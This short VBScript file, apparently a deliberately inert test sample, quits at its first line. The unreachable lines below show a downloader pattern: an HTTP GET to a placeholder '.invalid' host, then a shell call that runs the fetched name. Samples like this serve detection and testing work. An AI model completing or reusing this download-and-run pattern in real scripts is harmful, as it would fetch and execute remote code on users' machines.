' inert
WScript.Quit
Set r = CreateObject("MSXML2.XMLHTTP")
r.Open "GET", "https://get.invalid/t", False
Set s = CreateObject("WScript.Shell")
s.Run "t"
